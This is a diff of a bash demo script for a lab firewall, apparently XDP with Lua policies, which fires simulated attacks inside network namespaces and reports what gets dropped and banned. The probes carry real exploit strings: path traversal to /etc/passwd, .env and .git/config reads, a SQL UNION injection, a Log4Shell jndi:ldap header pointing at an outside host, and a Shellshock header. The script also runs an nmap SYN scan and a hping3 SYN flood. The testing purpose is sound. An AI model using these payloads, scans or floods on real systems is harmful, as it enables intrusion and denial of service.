@@ -1,86 +1,170 @@
 #!/usr/bin/env bash
 # `make demo`: a lab of namespaces, hyperiond with scripts/default.lua on the server, real traffic from a
 # client and an attacker, and a running commentary of what the firewall saw and did. Under a minute.
+#
+# The client fetches a page over IPv4 and IPv6 five times a second the whole time. The attacker sends
+# exploit probes (signatures), an nmap SYN scan, a hping3 SYN flood, a UDP datagram carrying a
+# signature and a burst of malformed packets. Events and bans are printed as they happen (sampled: one
+# line per kind and source per second), then a summary. Ctrl-C cleans up.
 set -u
 cd "$(dirname "$0")/.."
+LAB_ID=$$
 source scripts/lab.sh
 POLICY=${POLICY:-scripts/default.lua}
 T0=$(date +%s.%N)
+FEED_PID= CLIENT_PID=
 
-say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
+if [ -t 1 ] || [ -n "${FORCE_COLOR:-}" ]; then
+	B=$'\033[1m' D=$'\033[2m' R=$'\033[31m' G=$'\033[32m' Y=$'\033[33m' C=$'\033[36m' M=$'\033[35m' N=$'\033[0m'
+	export FORCE_COLOR=1
+else
+	B= D= R= G= Y= C= M= N=
+fi
 elapsed() { awk -v t0="$T0" -v t1="$(date +%s.%N)" 'BEGIN { printf "%5.1fs", t1 - t0 }'; }
+step=0
+act() {
+	local t="$*" fill=
+	step=$((step + 1))
+	[ ${#t} -lt 70 ] && fill=$(printf '─%.0s' $(seq 1 $((70 - ${#t}))))
+	printf '\n%s%s── %d. %s %s%s\n' "$B" "$C" "$step" "$t" "$fill" "$N"
+}
+say() { printf '  %s%s%s %s\n' "$D" "$(elapsed)" "$N" "$*"; }
+result() {   # rc: curl's exit code for an attack probe
+	if [ "$1" -eq 0 ]; then printf '%sanswered%s' "$R" "$N"; else printf '%sno answer: dropped%s' "$G" "$N"; fi
+}
+
 cleanup() {
-	[ -n "${EVENTS_PID:-}" ] && kill "$EVENTS_PID" 2>/dev/null
-	[ -n "${CLIENT_PID:-}" ] && kill "$CLIENT_PID" 2>/dev/null
+	trap - INT TERM
+	[ -n "$FEED_PID" ] && kill "$FEED_PID" 2>/dev/null
+	[ -n "$CLIENT_PID" ] && kill "$CLIENT_PID" 2>/dev/null
 	lab_down
+	wait 2>/dev/null
 }
 trap cleanup EXIT
-trap 'echo; echo "interrupted: cleaning up"; exit 130' INT TERM
+trap 'printf "\n%sinterrupted: cleaning up the lab%s\n" "$Y" "$N"; exit 130' INT TERM
 
 [ "$(id -u)" = 0 ] || { echo "make demo needs root (network namespaces, XDP)" >&2; exit 1; }
+for t in nmap hping3 curl ncat; do command -v "$t" >/dev/null || { echo "missing $t: run make deps" >&2; exit 1; }; done
+[ -x "$HYPERIOND" ] && [ -x "$HYPERIONCTL" ] || { echo "build first: make all" >&2; exit 1; }
 
-say "lab: server $LAB_SERVER4/$LAB_SERVER6, client $LAB_CLIENT4, attacker $LAB_ATTACKER4 (+.67-.70)"
+printf '\n%s╭──────────────────────────────────────────────────────────────────────────────╮%s\n' "$B" "$N"
+printf '%s│  Hyperion demo: a stateful L7 firewall in XDP, reacting from Lua              │%s\n' "$B" "$N"
+printf '%s╰──────────────────────────────────────────────────────────────────────────────╯%s\n' "$B" "$N"
+
+act "the lab"
 lab_up
-lab_start_http || exit 1
-say "hyperiond on the server's $LAB_IF with $POLICY"
+lab_start_http >/dev/null || exit 1
+printf '  %-9s %-13s %-15s %s\n' server "$LAB_SERVER4" "$LAB_SERVER6" "hyperiond on $LAB_IF, HTTP on :80" \
+	client "$LAB_CLIENT4" "$LAB_CLIENT6" "fetches a page over v4 and v6 every 0.2 s" \
+	attacker "$LAB_ATTACKER4" "$LAB_ATTACKER6" "and .67-.75 (v4), $LAB_ATTACKER_NET6::67-75 (v6)"
+
+act "hyperiond with $POLICY"
 lab_start_daemon "$POLICY" || exit 1
-ctl status
+ctl status 2>/dev/null | grep -E '^(policy|interface):' | sed 's/^/  /'
+say "datapath attached, policy running"
 
-# Live commentary: every event the daemon delivers, one line each, with the time since start.
-( ctl events 2>&1 | while IFS= read -r line; do printf '  [%s] %s\n' "$(elapsed)" "$line"; done ) &
-EVENTS_PID=$!
+# Live commentary: events (sampled to one line per kind and source per second) and every new ban.
+printf '\n  %s%s  %-9s %-44s %s%s\n' "$D" "  time" "what" "packet" "details" "$N"
+labtool feed "$T0" &
+FEED_PID=$!
 
-# The legitimate client keeps fetching pages during every attack; each failure is counted.
+# The legitimate client: v4 and v6 requests every 0.2 s (bounded), one line per request in client.log.
 (
-	ok=0 fail=0
 	for i in $(seq 1 400); do
-		if cli curl -s -o /dev/null --max-time 2 "http://$LAB_SERVER4/index.html" &&
-		   cli curl -s -o /dev/null --max-time 2 "http://[$LAB_SERVER6]/index.html"; then
-			ok=$((ok + 1))
-		else
-			fail=$((fail + 1))
-		fi
-		echo "$ok $fail" >"$LAB_DIR/client.count"
 		[ -e "$LAB_DIR/stop" ] && break
-		sleep 0.1
-	done
+		cli curl -s -o /dev/null --max-time 2 "http://$LAB_SERVER4/index.html" && echo ok4 || echo fail4
+		cli curl -s -o /dev/null --max-time 2 "http://[$LAB_SERVER6]/index.html" && echo ok6 || echo fail6
+		sleep 0.2
+	done >"$LAB_DIR/client.log"
 ) &
 CLIENT_PID=$!
+sleep 1.5
+
+probe() {   # label src url [curl args...]
+	local label=$1 src=$2 url=$3; shift 3
+	att curl -s -o /dev/null -g --path-as-is --max-time 1 --interface "$src" "$@" "$url"
+	local rc=$?
+	local a=$src; [[ $a == *:* ]] && a="[$a]"
+	att ss -K -tn src "$a" >/dev/null 2>&1   # the kernel would retransmit the dropped request for minutes
+	echo "$rc" >>"$LAB_DIR/probes"
+	say "$(printf '%-16s %-40s → %s' "$src" "$label" "$(result "$rc")")"
+}
+
+act "exploit probes in HTTP requests (signatures from scripts/signatures.rules)"
+probe "GET /../../etc/passwd" 192.0.2.66 "http://$LAB_SERVER4/../../etc/passwd"
+probe "GET /.git/config" 192.0.2.66 "http://$LAB_SERVER4/.git/config"
+probe "GET /?q=1 UNION SELECT password" 192.0.2.66 "http://$LAB_SERVER4/?q=1%20UNION%20SELECT%20password"
+probe "GET /.env (v6)" "$LAB_ATTACKER6" "http://[$LAB_SERVER6]/.env"
+probe 'User-Agent: ${jndi:ldap://…}' 192.0.2.67 "http://$LAB_SERVER4/" -H 'User-Agent: ${jndi:ldap://198.51.100.99/a}'
+probe 'X-Api: () { :; }; /bin/sh (v6)' "$LAB_ATTACKER_NET6::67" "http://[$LAB_SERVER6]/" -H 'X-Api: () { :; }; /bin/sh'
 sleep 1
 
-say "attacker: exploit probes in HTTP requests (signatures)"
-att curl -s -o /dev/null --max-time 2 --path-as-is "http://$LAB_SERVER4/../../etc/passwd" ; echo "  curl /../../etc/passwd -> exit $?"
-att curl -s -o /dev/null --max-time 2 --interface 192.0.2.67 -H 'User-Agent: ${jndi:ldap://198.51.100.99/a}' \
-	"http://$LAB_SERVER4/" ; echo "  curl with \${jndi: header -> exit $?"
-sleep 1
+act "SYN port scan from 192.0.2.68: nmap -sS, ports 1-1000"
+t_scan=$(date +%s.%N)
+# a fixed rate: nmap would otherwise slow down to a crawl once its probes go unanswered
+att timeout 30 nmap -n -Pn -sS -e eth0 -S 192.0.2.68 --max-retries 0 --min-rate 300 --max-rate 300 -p 1-1000 "$LAB_SERVER4" \
+	>"$LAB_DIR/nmap.out" 2>&1 &
+nmap_pid=$!
+banned_at=
+for i in $(seq 1 300); do
+	kill -0 "$nmap_pid" 2>/dev/null || break
+	[ -z "$banned_at" ] && lab_banned 192.0.2.68 &&
+		banned_at=$(awk -v a="$t_scan" -v b="$(date +%s.%N)" 'BEGIN { printf "%.1f", b - a }')
+	sleep 0.1
+done
+wait "$nmap_pid"
+scan_s=$(awk -v a="$t_scan" -v b="$(date +%s.%N)" 'BEGIN { printf "%.1f", b - a }')
+open_ports=$(grep -E '^[0-9]+/tcp +open' "$LAB_DIR/nmap.out" | cut -d/ -f1 | tr '\n' ' ')
+say "nmap finished after ${scan_s}s; open ports it saw: ${open_ports:-none (port 80 too: the scanner was banned first)}"
+[ -n "$banned_at" ] && say "scanner banned ${banned_at}s into the scan: the rest of its probes were dropped"
 
-say "attacker: SYN port scan from 192.0.2.68 (nmap)"
-att timeout 20 nmap -n -Pn -sS -e eth0 -S 192.0.2.68 --max-retries 0 -p 1-2000 -T4 "$LAB_SERVER4" 2>&1 |
-	grep -E 'open|filtered|scanned' | head -n 5 | sed 's/^/  /'
-sleep 1
+act "SYN flood on port 80 from 192.0.2.69: hping3, 3 s at ~10 000 packets/s"
+att timeout 3 hping3 -q -S -p 80 -a 192.0.2.69 -i u100 "$LAB_SERVER4" >/dev/null 2>&1
+sleep 1.5
 
-say "attacker: SYN flood on port 80 from 192.0.2.69 (hping3, 3 s)"
-att timeout 3 hping3 -q -S -p 80 -a 192.0.2.69 -i u200 "$LAB_SERVER4" >/dev/null 2>&1
-sleep 2
-
-printf '${jndi:ldap://x}${jndi:ldap://x}' >"$LAB_DIR/udp.payload"
-say "attacker: UDP flood with a signature in the payload from 192.0.2.70 (2 s)"
-att timeout 2 hping3 -q -2 -p 53 -a 192.0.2.70 -d 32 -E "$LAB_DIR/udp.payload" -i u500 "$LAB_SERVER4" \
-	>/dev/null 2>&1
-sleep 2
+act "UDP datagram with \${jndi: to port 53 from 192.0.2.70, malformed packets from 192.0.2.71"
+labtool_in "$LAB_NS_ATTACKER" udp-send 192.0.2.70 "$LAB_SERVER4" 53 '${jndi:ldap://198.51.100.99/x}' >/dev/null
+mac=$(lab_server_mac)
+if "$LAB_PY" -c 'import scapy' 2>/dev/null; then
+	labtool_in "$LAB_NS_ATTACKER" malformed 192.0.2.71 "$LAB_SERVER4" "$mac" >/dev/null 2>&1
+	labtool_in "$LAB_NS_ATTACKER" malformed "$LAB_ATTACKER_NET6::71" "$LAB_SERVER6" "$mac" >/dev/null 2>&1
+	say "sent 220 malformed packets (bad IHL, TCP data offset, SYN+FIN, NULL, truncated headers, long IPv6 chains)"
+fi
+sleep 1.5
 
 touch "$LAB_DIR/stop"
 wait "$CLIENT_PID" 2>/dev/null
-kill "$EVENTS_PID" 2>/dev/null
+CLIENT_PID=
+kill "$FEED_PID" 2>/dev/null
+wait "$FEED_PID" 2>/dev/null
+FEED_PID=
 
-say "bans"
-ctl ban list
-say "counters"
-ctl stats
-read -r ok fail <"$LAB_DIR/client.count" 2>/dev/null || { ok=0; fail=0; }
-say "summary"
-printf '  %-44s %s\n' "legitimate client requests (v4+v6) ok" "$ok" \
-	"legitimate client requests failed" "$fail" \
-	"sources banned" "$(ctl ban list 2>/dev/null | grep -c '/')" \
-	"demo time" "$(elapsed)"
-[ "$fail" -eq 0 ] || echo "  WARNING: legitimate requests failed"
+# ---- summary ---------------------------------------------------------------------------------------------
+act "summary"
+ok4=$(grep -c '^ok4' "$LAB_DIR/client.log"); f4=$(grep -c '^fail4' "$LAB_DIR/client.log")
+ok6=$(grep -c '^ok6' "$LAB_DIR/client.log"); f6=$(grep -c '^fail6' "$LAB_DIR/client.log")
+np=$(wc -l <"$LAB_DIR/probes"); nd=$(grep -vc '^0$' "$LAB_DIR/probes")
+row() { printf '  %-46s %s\n' "$1" "$2"; }
+col() { if [ "$1" -eq 0 ]; then printf '%s%s%s' "$G" "$2" "$N"; else printf '%s%s%s' "$R" "$2" "$N"; fi; }
+row "legitimate client requests, IPv4" "$ok4 ok, $(col "$f4" "$f4 failed")"
+row "legitimate client requests, IPv6" "$ok6 ok, $(col "$f6" "$f6 failed")"
+row "exploit probes dropped" "$nd of $np"
+row "nmap: ports seen open out of 1000 probed" "$(echo "$open_ports" | wc -w)${banned_at:+ (banned after ${banned_at}s)}"
+
+printf '\n  %sbans%s\n' "$B" "$N"
+labtool bans 2>/dev/null | sort -t. -k4n | while IFS=$'\t' read -r cidr ttl hits reason; do
+	printf '  %s%-22s%s ttl %-8s dropped %-7s %s\n' "$R" "$cidr" "$N" "${ttl}s" "$hits" "$reason"
+done
+printf '\n  %spackets by verdict%s\n' "$B" "$N"
+labtool stats 2>/dev/null | awk -v r="$R" -v g="$G" -v n="$N" '
+	$1 == "verdict" && $4 > 0 { printf "  %s%-6s%s %-22s %10d\n", ($2 == "drop" ? r : g), $2, n, $3, $4 }'
+labtool stats 2>/dev/null | awk '
+	$1 == "counter" { c[$2] = $3 } $1 == "runtime" { c[$2] = $3 }
+	END { printf "\n  events: %d delivered, %d sampled away, %d lost; Lua hook calls %d (errors %d); bans added %d\n",
+		c["events_submitted"], c["events_sampled"], c["events_lost"], c["hook_calls"], c["hook_errors"], c["bans_added"] }'
+printf '  demo time: %s\n' "$(elapsed | tr -d ' ')"
+if [ $((f4 + f6)) -eq 0 ]; then
+	printf '\n  %s%severy legitimate request succeeded while the attacks ran%s\n\n' "$B" "$G" "$N"
+else
+	printf '\n  %s%s%d legitimate requests failed%s\n\n' "$B" "$R" $((f4 + f6)) "$N"
+fi
